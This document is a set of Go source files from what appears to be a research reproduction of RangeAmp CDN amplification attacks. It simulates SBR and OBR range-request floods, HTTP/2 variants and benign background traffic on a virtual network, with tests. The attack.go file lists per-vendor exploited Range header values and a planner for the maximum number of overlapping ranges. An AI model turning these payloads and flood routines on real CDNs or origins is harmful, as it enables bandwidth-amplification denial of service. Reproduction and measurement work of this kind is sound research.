					resp, err := origin.Fetch(t.Net, t.EdgeAddr, t.ClientSeg, req)
					mu.Lock()
					switch {
					case err != nil:
						failures++
						if firstErr == nil {
							firstErr = err
						}
					case resp.StatusCode == 403 || resp.StatusCode == 431:
						blocked++
					}
					mu.Unlock()
				}
			}
		}(w)
	}
	wg.Wait()
	if firstErr != nil {
		return nil, fmt.Errorf("flood: %d failures, first: %w", failures, firstErr)
	}
	return &FloodResult{
		Requests:      workers * perWorker * exploit.Repeat,
		Failures:      failures,
		Blocked:       blocked,
		Amplification: probe.Delta(),
	}, nil
}
