package core

import (
	"context"
	"fmt"
	"sync"
	"time"

	"repro/internal/httpwire"
	"repro/internal/measure"
	"repro/internal/origin"
	"repro/internal/trace"
)

// FloodResult aggregates a concurrent SBR flood (§V-D: "a real-world
// attacker can continuously and concurrently send a certain number of
// range requests").
type FloodResult struct {
	Requests      int
	Failures      int
	Blocked       int   // HTTP 403 (detector) / 431 (limits) rejections
	Dials         int64 // attacker->edge connections opened (== Requests per-request; == workers keep-alive)
	Amplification measure.Amplification

	// VirtualDuration is how much simulated time the flood spanned.
	// Zero on the pipe engine, which runs in real time.
	VirtualDuration time.Duration
}

// FloodOptions fully specifies a flood: the target, the load shape and
// the connection economy. It is the one serializable knob set the
// canonical entry point RunSBRFloodOpts consumes (campaign cells
// re-express their flood configuration through it); the older
// positional entry points survive as thin wrappers that fill it in.
type FloodOptions struct {
	// Path is the resource to attack. Empty means TargetPath.
	Path string

	// ResourceSize selects the vendor's exploited Range case via
	// SBRExploit (the Azure and Huawei cases depend on the size). Zero
	// keeps the size-independent generic case.
	ResourceSize int64

	// Workers and PerWorker shape the load: Workers concurrent clients,
	// each sending PerWorker requests with unique cache-busting queries.
	Workers   int
	PerWorker int

	// KeepAlive gives each worker one persistent attacker->edge session
	// (origin.Client) carrying all its requests, instead of a fresh
	// dial per request. The request bytes on the wire are identical;
	// only the connection economy changes.
	KeepAlive bool

	// Range overrides the vendor's exploited Range case. The zero value
	// defers to SBRExploit(profile, ResourceSize); an explicit case with
	// Repeat == 0 sends each request once.
	Range SBRCase

	// Engine selects the execution engine. Empty or EnginePipe runs
	// every worker as a goroutine over the bounded-pipe substrate;
	// EngineVTime calibrates a few real workers and replays the rest as
	// discrete events on a virtual clock, which is how a million-client
	// flood fits in seconds of wall time.
	Engine Engine

	// VTime tunes the vtime engine; ignored by the pipe engine.
	VTime VTimeOptions
}

// RunSBRFloodOpts is the canonical flood entry point: it fires
// opts.Workers × opts.PerWorker SBR attack requests against the
// topology's edge concurrently, each with a unique cache-busting query,
// and returns the aggregate amplification. Each worker checks ctx
// before every request and stops early when it is cancelled; a
// cancelled flood returns ctx.Err(), and the traffic its completed
// requests generated stays accounted in the registry (which is how the
// scheduler tests observe partial progress). It exercises the whole
// stack under contention (the engines must be race-free).
func RunSBRFloodOpts(ctx context.Context, t *SBRTopology, opts FloodOptions) (*FloodResult, error) {
	path := opts.Path
	if path == "" {
		path = TargetPath
	}
	exploit := opts.Range
	if exploit.RangeHeader == "" {
		exploit = SBRExploit(t.Profile.Name, opts.ResourceSize)
	}
	if exploit.Repeat < 1 {
		exploit.Repeat = 1
	}
	if opts.Engine == EngineVTime {
		return runSBRFloodVTime(ctx, t, path, exploit, opts)
	}
	probe := measure.NewProbe(t.OriginSeg, t.ClientSeg)

	var (
		wg       sync.WaitGroup
		mu       sync.Mutex
		requests int
		failures int
		blocked  int
		dials    int64
		firstErr error
	)
	for w := 0; w < opts.Workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			var session *origin.Client
			if opts.KeepAlive {
				session = origin.NewClient(t.Net, t.EdgeAddr, t.ClientSeg)
				defer func() {
					st := session.Stats()
					session.Close()
					mu.Lock()
					dials += st.Dials
					mu.Unlock()
				}()
			}
			for i := 0; i < opts.PerWorker; i++ {
				target := fmt.Sprintf("%s?cb=w%d-%d", path, w, i)
				for r := 0; r < exploit.Repeat; r++ {
					if ctx.Err() != nil {
						return
					}
					req := NewAttackRequest(target)
					req.Headers.Add("Range", exploit.RangeHeader)
					// Flood workers trace too (the nil path is free and
					// head sampling keeps the recorded share at 1/N),
					// but skip per-span byte attribution: workers share
					// the client segment, so a per-request delta would
					// interleave other workers' bytes.
					sp := t.Trace.StartRoot("attacker", target)
					if sp.Recording() {
						sp.SetAttr("range", exploit.RangeHeader)
						trace.Inject(sp, &req.Headers)
					}
					var (
						resp *httpwire.Response
						err  error
					)
					if session != nil {
						resp, err = session.Do(req)
					} else {
						resp, err = origin.Fetch(t.Net, t.EdgeAddr, t.ClientSeg, req)
					}
					if sp.Recording() {
						if resp != nil {
							sp.SetAttrInt("status", int64(resp.StatusCode))
						}
						if err != nil {
							sp.SetAttr("error", err.Error())
						}
					}
					sp.End()
					mu.Lock()
					requests++
					if session == nil {
						dials++ // origin.Fetch opens a fresh connection per request
					}
					switch {
					case err != nil:
						failures++
						if firstErr == nil {
							firstErr = err
						}
					case resp.StatusCode == 403 || resp.StatusCode == 431:
						blocked++
					}
					mu.Unlock()
				}
			}
		}(w)
	}
	wg.Wait()
	if err := ctx.Err(); err != nil {
		return nil, fmt.Errorf("flood: cancelled after %d requests: %w", requests, err)
	}
	if firstErr != nil {
		return nil, fmt.Errorf("flood: %d failures, first: %w", failures, firstErr)
	}
	return &FloodResult{
		Requests:      requests,
		Failures:      failures,
		Blocked:       blocked,
		Dials:         dials,
		Amplification: probe.Delta(),
	}, nil
}

// RunSBRFlood fires workers × perWorker SBR attack requests against
// the topology's edge concurrently.
//
// Deprecated: use RunSBRFloodOpts, the canonical flood entry point; this
// wrapper fills FloodOptions positionally under context.Background().
func RunSBRFlood(t *SBRTopology, path string, resourceSize int64, workers, perWorker int) (*FloodResult, error) {
	return RunSBRFloodOpts(context.Background(), t, FloodOptions{
		Path: path, ResourceSize: resourceSize, Workers: workers, PerWorker: perWorker,
	})
}

// RunSBRFloodKeepAlive is RunSBRFlood over persistent connections: one
// attacker->edge session per worker, every request multiplexed on it.
//
// Deprecated: use RunSBRFloodOpts with FloodOptions.KeepAlive set.
func RunSBRFloodKeepAlive(t *SBRTopology, path string, resourceSize int64, workers, perWorker int) (*FloodResult, error) {
	return RunSBRFloodOpts(context.Background(), t, FloodOptions{
		Path: path, ResourceSize: resourceSize, Workers: workers, PerWorker: perWorker, KeepAlive: true,
	})
}
