package core

import (
	"fmt"

	"repro/internal/h2"
	"repro/internal/measure"
	"repro/internal/report"
	"repro/internal/resource"
	"repro/internal/vendor"
)

// edgeH2Addr is the edge's HTTP/2 listener, started on demand.
const edgeH2Addr = "edge-h2.cdn:80"

// EnableH2 attaches an HTTP/2 listener to the topology's edge (the
// same engine answers both protocol versions, as real CDN edges do).
func (t *SBRTopology) EnableH2() error {
	l, err := t.Net.Listen(edgeH2Addr)
	if err != nil {
		return fmt.Errorf("listen h2: %w", err)
	}
	t.listeners = append(t.listeners, l)
	go h2.Serve(l, t.Edge)
	return nil
}

// RunSBROverH2 performs the SBR attack over an HTTP/2 connection to
// the edge — the §VI-B observation in executable form. The crafted
// Range header is identical; only the client-side framing changes.
func RunSBROverH2(t *SBRTopology, path string, resourceSize int64, cacheBuster string) (*SBRResult, error) {
	exploit := SBRExploit(t.Profile.Name, resourceSize)
	probe := measure.NewProbe(t.OriginSeg, t.ClientSeg)
	target := path + "?cb=" + cacheBuster

	result := &SBRResult{Case: exploit}
	for i := 0; i < exploit.Repeat; i++ {
		conn, err := t.Net.Dial(edgeH2Addr, t.ClientSeg)
		if err != nil {
			return nil, fmt.Errorf("dial h2 edge: %w", err)
		}
		req := NewAttackRequest(target)
		req.Headers.Add("Range", exploit.RangeHeader)
		resp, err := h2.Fetch(conn, req)
		if err != nil {
			return nil, fmt.Errorf("h2 sbr request %d: %w", i, err)
		}
		result.Responses = append(result.Responses, resp)
	}
	result.Amplification = probe.Delta()
	return result, nil
}

// H2Comparison runs the same SBR exploit over HTTP/1.1 and HTTP/2
// against every vendor and tabulates both factors, demonstrating that
// the vulnerability is protocol-version independent (and slightly
// worse over h2, because HPACK shrinks the attacker-side bytes).
func H2Comparison(sizeMB int) (*report.Table, map[string][2]float64, error) {
	size := int64(sizeMB) * MiB
	factors := make(map[string][2]float64, 13)
	tab := &report.Table{
		Title:   fmt.Sprintf("§VI-B — SBR amplification over HTTP/1.1 vs HTTP/2 (%dMB resource)", sizeMB),
		Columns: []string{"CDN", "HTTP/1.1 Factor", "HTTP/2 Factor", "h2/h1"},
	}
	for _, p := range vendor.All() {
		store := resource.NewStore()
		store.AddSynthetic(targetPath, size, contentType)
		topo, err := NewSBRTopology(p.Clone(), store, SBROptions{OriginRangeSupport: true})
		if err != nil {
			return nil, nil, err
		}
		if err := topo.EnableH2(); err != nil {
			topo.Close()
			return nil, nil, err
		}
		if err := PrimeSizeHint(topo, targetPath); err != nil {
			topo.Close()
			return nil, nil, err
		}

		h1Res, err := RunSBR(topo, targetPath, size, "h1")
		if err != nil {
			topo.Close()
			return nil, nil, fmt.Errorf("%s h1: %w", p.Name, err)
		}
		h2Res, err := RunSBROverH2(topo, targetPath, size, "h2")
		topo.Close()
		if err != nil {
			return nil, nil, fmt.Errorf("%s h2: %w", p.Name, err)
		}

		f1 := h1Res.Amplification.Factor()
		f2 := h2Res.Amplification.Factor()
		factors[p.DisplayName] = [2]float64{f1, f2}
		tab.AddRow(p.DisplayName,
			fmt.Sprintf("%.0f", f1),
			fmt.Sprintf("%.0f", f2),
			fmt.Sprintf("%.2f", f2/f1))
	}
	return tab, factors, nil
}
