package core

import (
	"fmt"

	"repro/internal/h2"
	"repro/internal/measure"
)

// edgeH2Addr is the edge's HTTP/2 listener, started on demand.
const edgeH2Addr = "edge-h2.cdn:80"

// EnableH2 attaches an HTTP/2 listener to the topology's edge (the
// same engine answers both protocol versions, as real CDN edges do).
func (t *SBRTopology) EnableH2() error {
	l, err := t.Net.Listen(edgeH2Addr)
	if err != nil {
		return fmt.Errorf("listen h2: %w", err)
	}
	t.listeners = append(t.listeners, l)
	go h2.Serve(l, t.Edge)
	return nil
}

// RunSBROverH2 performs the SBR attack over an HTTP/2 connection to
// the edge — the §VI-B observation in executable form. The crafted
// Range header is identical; only the client-side framing changes.
func RunSBROverH2(t *SBRTopology, path string, resourceSize int64, cacheBuster string) (*SBRResult, error) {
	exploit := SBRExploit(t.Profile.Name, resourceSize)
	probe := measure.NewProbe(t.OriginSeg, t.ClientSeg)
	target := path + "?cb=" + cacheBuster

	result := &SBRResult{Case: exploit}
	for i := 0; i < exploit.Repeat; i++ {
		conn, err := t.Net.Dial(edgeH2Addr, t.ClientSeg)
		if err != nil {
			return nil, fmt.Errorf("dial h2 edge: %w", err)
		}
		req := NewAttackRequest(target)
		req.Headers.Add("Range", exploit.RangeHeader)
		resp, err := h2.Fetch(conn, req)
		if err != nil {
			return nil, fmt.Errorf("h2 sbr request %d: %w", i, err)
		}
		result.Responses = append(result.Responses, resp)
	}
	result.Amplification = probe.Delta()
	return result, nil
}
