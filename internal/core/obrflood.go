package core

import (
	"context"
	"fmt"
	"math/rand"
	"sync"
	"time"

	"repro/internal/measure"
	"repro/internal/netsim"
	"repro/internal/vtime"
)

// RunOBRFloodOpts floods an OBR cascade: opts.Workers × opts.PerWorker
// overlapping-range requests against the front CDN, each with a unique
// cache-busting query so every one rides the full fcdn->bcdn->origin
// chain. The returned amplification uses the paper's Table V mixed
// vantage (application-level fcdn-bcdn victim bytes, capture-level
// bcdn-origin attacker bytes) aggregated over the whole flood.
//
// opts.Engine selects pipe or vtime execution exactly as in
// RunSBRFloodOpts; opts.KeepAlive is rejected (the OBR client dials per
// request). Range/ResourceSize are ignored: the overlapping-range plan
// comes from the cascade's vendor pair.
func RunOBRFloodOpts(ctx context.Context, t *OBRTopology, opts FloodOptions) (*FloodResult, error) {
	if opts.KeepAlive {
		return nil, fmt.Errorf("obr flood: keep-alive sessions unsupported")
	}
	path := opts.Path
	if path == "" {
		path = TargetPath
	}
	if opts.Engine == EngineVTime {
		return runOBRFloodVTime(ctx, t, path, opts)
	}
	probe := measure.NewProbe(t.FcdnBcdnSeg, t.BcdnOriginSeg)

	var (
		wg     sync.WaitGroup
		mu     sync.Mutex
		counts floodCounts
	)
	for w := 0; w < opts.Workers; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := 0; i < opts.PerWorker; i++ {
				if ctx.Err() != nil {
					return
				}
				res, err := RunOBRContext(ctx, t, fmt.Sprintf("%s?cb=w%d-%d", path, w, i), 0)
				mu.Lock()
				counts.requests++
				counts.dials++ // one client->fcdn connection per OBR request
				switch {
				case err != nil:
					counts.failures++
					if counts.firstErr == nil {
						counts.firstErr = err
					}
				case res.Response.StatusCode == 403 || res.Response.StatusCode == 431:
					counts.blocked++
				}
				mu.Unlock()
			}
		}(w)
	}
	wg.Wait()
	return obrFloodResult(ctx, probe, &counts, 0)
}

func obrFloodResult(ctx context.Context, probe *measure.Probe, c *floodCounts, virtual time.Duration) (*FloodResult, error) {
	if err := ctx.Err(); err != nil {
		return nil, fmt.Errorf("obr flood: cancelled after %d requests: %w", c.requests, err)
	}
	if c.firstErr != nil {
		return nil, fmt.Errorf("obr flood: %d failures, first: %w", c.failures, c.firstErr)
	}
	appDelta := probe.Delta()
	wireDelta := probe.WireDelta()
	return &FloodResult{
		Requests: c.requests,
		Failures: c.failures,
		Blocked:  c.blocked,
		Dials:    c.dials,
		Amplification: measure.Amplification{
			VictimBytes:   appDelta.VictimBytes,
			AttackerBytes: wireDelta.AttackerBytes,
		},
		VirtualDuration: virtual,
	}, nil
}

// runOBRFloodVTime is the vtime engine over the three-hop cascade:
// calibrated workers issue real overlapping-range requests, replayed
// workers chain exchanges upstream-most first (bcdn-origin, fcdn-bcdn,
// client-fcdn) so each simulated request's traffic lands in causal
// order along the cascade.
func runOBRFloodVTime(ctx context.Context, t *OBRTopology, path string, opts FloodOptions) (*FloodResult, error) {
	probe := measure.NewProbe(t.FcdnBcdnSeg, t.BcdnOriginSeg)
	sched := opts.VTime.Sched
	if sched == nil {
		sched = vtime.NewScheduler()
	}
	segs := []*netsim.Segment{t.BcdnOriginSeg, t.FcdnBcdnSeg, t.ClientSeg}
	rep := vtime.NewReplay(sched)
	pathID := rep.AddPath([]vtime.Hop{
		{Seg: vtime.NewSegmentBatch(sched, t.BcdnOriginSeg), Link: vtime.NewSharedLink(sched, opts.VTime.Upstream)},
		{Seg: vtime.NewSegmentBatch(sched, t.FcdnBcdnSeg), Link: vtime.NewSharedLink(sched, opts.VTime.Upstream)},
		{Seg: vtime.NewSegmentBatch(sched, t.ClientSeg), Link: vtime.NewSharedLink(sched, opts.VTime.Client)},
	})

	var (
		counts    floodCounts
		templates = map[int]int{}
		calCount  = map[int]int{}
	)
	runReal := func(w int) error {
		tmpl := &vtime.Template{Close: make([]vtime.Delta, len(segs))}
		for i := 0; i < opts.PerWorker; i++ {
			if err := ctx.Err(); err != nil {
				return err
			}
			before := snapAll(segs)
			res, err := RunOBRContext(ctx, t, fmt.Sprintf("%s?cb=w%d-%d", path, w, i), 0)
			s := vtime.ReqSample{Hops: deltasSince(segs, before)}
			counts.requests++
			counts.dials++
			switch {
			case err != nil:
				s.Failed = true
				counts.failures++
				if counts.firstErr == nil {
					counts.firstErr = err
				}
			case res.Response.StatusCode == 403 || res.Response.StatusCode == 431:
				s.Blocked = true
				counts.blocked++
			}
			tmpl.Reqs = append(tmpl.Reqs, s)
		}
		tmpl.Dials = int64(opts.PerWorker)
		templates[shapeOf(w)] = rep.AddTemplate(tmpl)
		return nil
	}
	for w := 0; w < opts.Workers; w++ {
		if d := shapeOf(w); calCount[d] < calPerShape {
			calCount[d]++
			if err := runReal(w); err != nil {
				return nil, fmt.Errorf("obr flood: cancelled after %d requests: %w", counts.requests, err)
			}
		}
	}

	ramp := opts.VTime.Ramp
	if ramp <= 0 {
		ramp = time.Second
	}
	rng := rand.New(rand.NewSource(opts.VTime.Seed))
	seen := map[int]int{}
	for w := 0; w < opts.Workers; w++ {
		start := arrival(rng, ramp)
		d := shapeOf(w)
		if seen[d] < calPerShape {
			seen[d]++
			continue
		}
		rep.AddClient(start, templates[d], pathID)
	}
	err := rep.Run(ctx)
	counts.merge(rep.Counts)
	if err != nil {
		return nil, fmt.Errorf("obr flood: cancelled after %d requests: %w", counts.requests, err)
	}
	return obrFloodResult(ctx, probe, &counts, sched.Elapsed())
}
