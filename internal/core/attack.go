package core

import (
	"bytes"
	"context"
	"fmt"
	"strconv"
	"strings"

	"repro/internal/httpwire"
	"repro/internal/measure"
	"repro/internal/origin"
	"repro/internal/vendor"
)

// attackUserAgent marks attack requests; it also fixes the header set
// the max-n planner reasons about.
const attackUserAgent = "rangeamp-attack/1.0"

// NewAttackRequest builds the canonical attack request shape.
func NewAttackRequest(target string) *httpwire.Request {
	req := httpwire.NewRequest("GET", target, AttackHost)
	req.Headers.Add("User-Agent", attackUserAgent)
	return req
}

// SBRCase is one vendor's exploited Range case from Table IV: the
// header value to send and how many times to send the same request
// (KeyCDN needs the identical request twice).
type SBRCase struct {
	RangeHeader string
	Repeat      int
}

// SBRExploit returns the Table IV column-2 exploited Range case for a
// vendor and target resource size.
func SBRExploit(vendorName string, resourceSize int64) SBRCase {
	const (
		eightMB = 8 << 20
		tenMB   = 10 * 1000 * 1000
	)
	switch vendorName {
	case "alibaba":
		return SBRCase{RangeHeader: "bytes=-1", Repeat: 1}
	case "azure":
		if resourceSize > eightMB {
			return SBRCase{RangeHeader: "bytes=8388608-8388608", Repeat: 1}
		}
		return SBRCase{RangeHeader: "bytes=0-0", Repeat: 1}
	case "cloudfront":
		return SBRCase{RangeHeader: "bytes=0-0,9437184-9437184", Repeat: 1}
	case "huawei":
		if resourceSize < tenMB {
			return SBRCase{RangeHeader: "bytes=-1", Repeat: 1}
		}
		return SBRCase{RangeHeader: "bytes=0-0", Repeat: 1}
	case "keycdn":
		return SBRCase{RangeHeader: "bytes=0-0", Repeat: 2}
	default:
		return SBRCase{RangeHeader: "bytes=0-0", Repeat: 1}
	}
}

// SBRResult is one SBR attack measurement.
type SBRResult struct {
	Case          SBRCase
	Amplification measure.Amplification
	Responses     []*httpwire.Response
}

// RunSBR performs one SBR attack against the topology's edge using the
// vendor's exploited case and a cache-busting query string, and returns
// the per-segment traffic measurement. cacheBuster must be unique per
// call to force a miss (the Repeat requests intentionally share it).
// It is RunSBRContext with a background context.
func RunSBR(t *SBRTopology, path string, resourceSize int64, cacheBuster string) (*SBRResult, error) {
	return RunSBRContext(context.Background(), t, path, resourceSize, cacheBuster)
}

// PrimeSizeHint teaches the edge the resource size (the Huawei
// F-conditional behaviour needs one warm-up observation, like a real
// edge that has served the path before). The warm-up uses its own
// cache-busting query so it does not seed the cache entry the attack
// will use.
func PrimeSizeHint(t *SBRTopology, path string) error {
	req := NewAttackRequest(path + "?warmup=1")
	if _, err := origin.Fetch(t.Net, t.EdgeAddr, t.ClientSeg, req); err != nil {
		return fmt.Errorf("warm-up: %w", err)
	}
	return nil
}

// OBRCase is one cascaded pair's exploited multi-range case from
// Table V: the first token of the crafted set and the planned n.
type OBRCase struct {
	FirstToken string // "0-", "1-" or "-1024"
	N          int
}

// OBRFirstToken returns the Table V column-3 range-case lead token for
// an FCDN (the remaining n-1 tokens are always "0-").
func OBRFirstToken(fcdnName string) string {
	switch fcdnName {
	case "cdn77":
		return "-1024" // CDN77 strips first<1024 singles; the suffix lead keeps it lazy
	case "cdnsun":
		return "1-" // CDNsun strips 0-anchored leads
	default:
		return "0-"
	}
}

// PlanMaxN computes the largest usable n for a cascaded pair: the
// minimum of the FCDN's inbound limit on the client request, the
// BCDN's inbound limit on the forwarded request, and the BCDN's
// range-count cap (Azure's 64).
func PlanMaxN(fcdn, bcdn *vendor.Profile, target string) OBRCase {
	return planMaxN(fcdn, bcdn, target, nil)
}

// planMaxN is PlanMaxN with extra headers the client request will carry
// beyond the canonical attack shape. Vendor header limits count every
// field, so a traced OBR request must budget for its traceparent header
// or the planned n would push the real request over the limit.
func planMaxN(fcdn, bcdn *vendor.Profile, target string, extra httpwire.Headers) OBRCase {
	firstToken := OBRFirstToken(fcdn.Name)
	client := NewAttackRequest(target)
	for _, h := range extra {
		client.Headers.Add(h.Name, h.Value)
	}
	n := fcdn.Limits.MaxOverlappingRanges(client, firstToken)

	forwarded := client.Clone()
	forwarded.Headers.Set("Connection", "close")
	forwarded.Headers.Add("Via", "1.1 "+fcdn.Name)
	if bn := bcdn.Limits.MaxOverlappingRanges(forwarded, firstToken); bn < n {
		n = bn
	}
	if bcdn.MaxPartsThenIgnore > 0 && n > bcdn.MaxPartsThenIgnore {
		n = bcdn.MaxPartsThenIgnore
	}
	return OBRCase{FirstToken: firstToken, N: n}
}

// BuildOverlappingRange renders "bytes=<firstToken>,0-,0-,…" with n
// ranges total.
func BuildOverlappingRange(firstToken string, n int) string {
	var b strings.Builder
	b.Grow(7 + len(firstToken) + 3*n)
	b.WriteString("bytes=")
	b.WriteString(firstToken)
	for i := 1; i < n; i++ {
		b.WriteString(",0-")
	}
	return b.String()
}

// OBRResult is one OBR attack measurement.
type OBRResult struct {
	Case          OBRCase
	Amplification measure.Amplification // fcdn-bcdn vs bcdn-origin response traffic
	Response      *httpwire.Response
	Parts         int // body parts in the client-visible reply
}

// RunOBR performs one OBR attack with the planned (or overridden) n.
// Pass n <= 0 to use the planned maximum. It is RunOBRContext with a
// background context.
func RunOBR(t *OBRTopology, path string, n int) (*OBRResult, error) {
	return RunOBRContext(context.Background(), t, path, n)
}

// CountParts counts multipart body parts by boundary occurrences.
func CountParts(resp *httpwire.Response) int {
	ct, _ := resp.Headers.Get("Content-Type")
	boundary, ok := cutBoundary(ct)
	if !ok {
		if resp.StatusCode == httpwire.StatusPartialContent || resp.StatusCode == httpwire.StatusOK {
			return 1
		}
		return 0
	}
	return bytes.Count(resp.Body, []byte("--"+boundary+"\r\n"))
}

func cutBoundary(ct string) (string, bool) {
	if !strings.HasPrefix(strings.ToLower(ct), "multipart/byteranges") {
		return "", false
	}
	if i := strings.Index(ct, "boundary="); i >= 0 {
		return strings.Trim(ct[i+len("boundary="):], `"`), true
	}
	return "", false
}

// CacheBuster renders the i-th cache-busting token.
func CacheBuster(i int) string { return "r" + strconv.Itoa(i) }
