package core

import (
	"context"
	"fmt"
	"math/rand"
	"sync"
	"time"

	"repro/internal/httpwire"
	"repro/internal/netsim"
	"repro/internal/origin"
	"repro/internal/vtime"
	"repro/internal/workload"
)

// BackgroundOptions shape a benign background-user population browsing
// through the same edge an attack targets: the §VI false-positive
// scenario, where mitigations must not degrade real range traffic.
type BackgroundOptions struct {
	// Users is the benign client population; user u browses the object
	// Paths[u%len(Paths)] with a deterministic workload.Generator stream
	// seeded Seed+u.
	Users int

	// PerUser is the request count in each user's stream.
	PerUser int

	// Seed makes the whole population deterministic.
	Seed int64

	// Size is the browsed objects' size (the workload generator shapes
	// seeks and segment downloads around it). It must match the store.
	Size int64

	// Paths are the benign objects; every path must exist in the
	// topology's store. With len(Paths) >= Users each user browses a
	// private object and the pipe engine's totals are deterministic;
	// with fewer paths users share edge-cache state and the first-miss
	// race makes pipe totals run-dependent (the vtime engine stays
	// deterministic either way).
	Paths []string

	// Engine and VTime select and tune the execution engine.
	Engine Engine
	VTime  VTimeOptions
}

// BackgroundResult aggregates the benign population's traffic.
type BackgroundResult struct {
	Requests, Failures int

	// ClientBytes is the population's received application bytes
	// (client-segment down delta).
	ClientBytes int64

	// VirtualDuration is the simulated span (vtime engine only).
	VirtualDuration time.Duration
}

// backgroundStream materializes user u's deterministic request stream.
func backgroundStream(opts BackgroundOptions, u int) []*httpwire.Request {
	g := workload.NewGenerator(opts.Seed + int64(u))
	path := opts.Paths[u%len(opts.Paths)]
	return g.Mixed([]string{path}, opts.Size, opts.PerUser)
}

// RunBackgroundUsers drives opts.Users benign range-request streams
// through the topology's edge. On the pipe engine every user is a
// goroutine issuing real requests. On the vtime engine execution is
// occurrence-calibrated: the first two occurrences of each distinct
// (path, Range) key run for real — the miss that fills the edge cache,
// then the first steady-state hit — and every later occurrence replays
// the second occurrence's calibrated per-segment footprint as events,
// which is what lets a million-viewer background population coexist
// with a million-client flood in seconds of wall time.
func RunBackgroundUsers(ctx context.Context, t *SBRTopology, opts BackgroundOptions) (*BackgroundResult, error) {
	if opts.Users <= 0 || opts.PerUser <= 0 {
		return nil, fmt.Errorf("background: need users and per-user counts")
	}
	if len(opts.Paths) == 0 {
		return nil, fmt.Errorf("background: need at least one benign path")
	}
	if opts.Size <= 0 {
		return nil, fmt.Errorf("background: need the browsed object size")
	}
	before := t.ClientSeg.Snapshot()
	var (
		counts  floodCounts
		virtual time.Duration
		err     error
	)
	if opts.Engine == EngineVTime {
		virtual, err = runBackgroundVTime(ctx, t, opts, &counts)
	} else {
		err = runBackgroundPipe(ctx, t, opts, &counts)
	}
	if err != nil {
		return nil, err
	}
	if counts.firstErr != nil {
		return nil, fmt.Errorf("background: %d failures, first: %w", counts.failures, counts.firstErr)
	}
	return &BackgroundResult{
		Requests:        counts.requests,
		Failures:        counts.failures,
		ClientBytes:     t.ClientSeg.Snapshot().Sub(before).Down,
		VirtualDuration: virtual,
	}, nil
}

func runBackgroundPipe(ctx context.Context, t *SBRTopology, opts BackgroundOptions, counts *floodCounts) error {
	var (
		wg sync.WaitGroup
		mu sync.Mutex
	)
	for u := 0; u < opts.Users; u++ {
		wg.Add(1)
		go func(u int) {
			defer wg.Done()
			for _, req := range backgroundStream(opts, u) {
				if ctx.Err() != nil {
					return
				}
				resp, err := origin.Fetch(t.Net, t.EdgeAddr, t.ClientSeg, req)
				mu.Lock()
				counts.note(resp, err)
				mu.Unlock()
			}
		}(u)
	}
	wg.Wait()
	if err := ctx.Err(); err != nil {
		return fmt.Errorf("background: cancelled after %d requests: %w", counts.requests, err)
	}
	return nil
}

func runBackgroundVTime(ctx context.Context, t *SBRTopology, opts BackgroundOptions, counts *floodCounts) (time.Duration, error) {
	sched := opts.VTime.Sched
	if sched == nil {
		sched = vtime.NewScheduler()
	}
	segs := []*netsim.Segment{t.OriginSeg, t.ClientSeg}
	rep := vtime.NewReplay(sched)
	pathID := rep.AddPath([]vtime.Hop{
		{Seg: vtime.NewSegmentBatch(sched, t.OriginSeg), Link: vtime.NewSharedLink(sched, opts.VTime.Upstream)},
		{Seg: vtime.NewSegmentBatch(sched, t.ClientSeg), Link: vtime.NewSharedLink(sched, opts.VTime.Client)},
	})

	ramp := opts.VTime.Ramp
	if ramp <= 0 {
		ramp = time.Second
	}
	rng := rand.New(rand.NewSource(opts.VTime.Seed))

	// Occurrence calibration state, keyed by the exact request identity
	// the edge cache sees.
	type keyState struct {
		occ    int
		sample vtime.ReqSample
	}
	closeDeltas := make([]vtime.Delta, len(segs))
	states := map[string]*keyState{}
	for u := 0; u < opts.Users; u++ {
		start := arrival(rng, ramp)
		tmpl := &vtime.Template{Close: closeDeltas}
		for _, req := range backgroundStream(opts, u) {
			if err := ctx.Err(); err != nil {
				return 0, fmt.Errorf("background: cancelled after %d requests: %w", counts.requests, err)
			}
			rangeHeader, _ := req.Headers.Get("Range")
			key := req.Target + "\x00" + rangeHeader
			st := states[key]
			if st == nil {
				st = &keyState{}
				states[key] = st
			}
			if st.occ < 2 {
				// Real request: occurrence 1 fills the cache, occurrence 2
				// is the steady-state footprint later occurrences replay.
				st.occ++
				before := snapAll(segs)
				resp, err := origin.Fetch(t.Net, t.EdgeAddr, t.ClientSeg, req)
				s := vtime.ReqSample{Hops: deltasSince(segs, before)}
				s.Blocked, s.Failed = counts.note(resp, err)
				st.sample = s
				continue
			}
			tmpl.Reqs = append(tmpl.Reqs, st.sample)
		}
		if len(tmpl.Reqs) == 0 {
			continue
		}
		rep.AddClient(start, rep.AddTemplate(tmpl), pathID)
	}
	err := rep.Run(ctx)
	counts.merge(rep.Counts)
	if err != nil {
		return 0, fmt.Errorf("background: cancelled after %d requests: %w", counts.requests, err)
	}
	return sched.Elapsed(), nil
}
