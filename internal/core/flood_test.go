package core

import (
	"testing"

	"repro/internal/resource"
	"repro/internal/vendor"
)

func TestSBRFloodConcurrent(t *testing.T) {
	const size = 256 << 10
	store := resource.NewStore()
	store.AddSynthetic(targetPath, size, contentType)
	topo, err := NewSBRTopology(vendor.Cloudflare(), store, SBROptions{OriginRangeSupport: true})
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()

	const workers, perWorker = 8, 5
	res, err := RunSBRFlood(topo, targetPath, size, workers, perWorker)
	if err != nil {
		t.Fatal(err)
	}
	if res.Requests != workers*perWorker || res.Failures != 0 || res.Blocked != 0 {
		t.Fatalf("flood result = %+v", res)
	}
	// Every request busted the cache: the origin shipped one full copy
	// per request.
	wantOrigin := int64(workers*perWorker) * size
	if res.Amplification.VictimBytes < wantOrigin {
		t.Errorf("origin traffic = %d, want >= %d", res.Amplification.VictimBytes, wantOrigin)
	}
	if f := res.Amplification.Factor(); f < 100 {
		t.Errorf("aggregate factor = %.1f", f)
	}
	if n := len(topo.Origin.Log()); n != workers*perWorker {
		t.Errorf("origin saw %d requests", n)
	}
}

func TestSBRFloodKeyCDNDoubleRequests(t *testing.T) {
	const size = 64 << 10
	store := resource.NewStore()
	store.AddSynthetic(targetPath, size, contentType)
	topo, err := NewSBRTopology(vendor.KeyCDN(), store, SBROptions{OriginRangeSupport: true})
	if err != nil {
		t.Fatal(err)
	}
	defer topo.Close()

	res, err := RunSBRFlood(topo, targetPath, size, 4, 3)
	if err != nil {
		t.Fatal(err)
	}
	if res.Requests != 4*3*2 {
		t.Errorf("requests = %d, want doubled for KeyCDN", res.Requests)
	}
	if n := len(topo.Origin.Log()); n != 4*3*2 {
		t.Errorf("origin saw %d requests", n)
	}
}
